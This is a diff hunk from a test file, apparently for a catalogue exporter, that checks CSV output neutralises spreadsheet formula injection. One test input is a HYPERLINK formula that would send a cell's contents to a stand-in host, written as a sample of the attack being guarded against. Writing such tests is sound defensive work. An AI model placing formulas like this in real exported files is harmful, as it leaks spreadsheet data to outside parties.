@@ -195,7 +195,7 @@ describe('a printed file', () => {
   it('holds no formula that a spreadsheet would compute, and is read as it was', () => {
     const formula = '=HYPERLINK("http://example.invalid/?x="&A1)';
     for (const text of [formula, '+1 GB', '-1', '@a', '\tx', "'=1", "''+1", "'a", '=']) {
-      const products = [{ ...withDefaults, name: text, name_en: text, options: text }];
+      const { products } = readJson({ ...least, name: text, name_en: text, options: text });
       const csv = [...printCatalogue(products, 'csv')].join('');
       assert.doesNotMatch(csv, /(?:^|,|\n)"?[=+@\t]/);
       assert.deepEqual(readCatalogueFile(csv, 'csv'), { products, problems: [] });
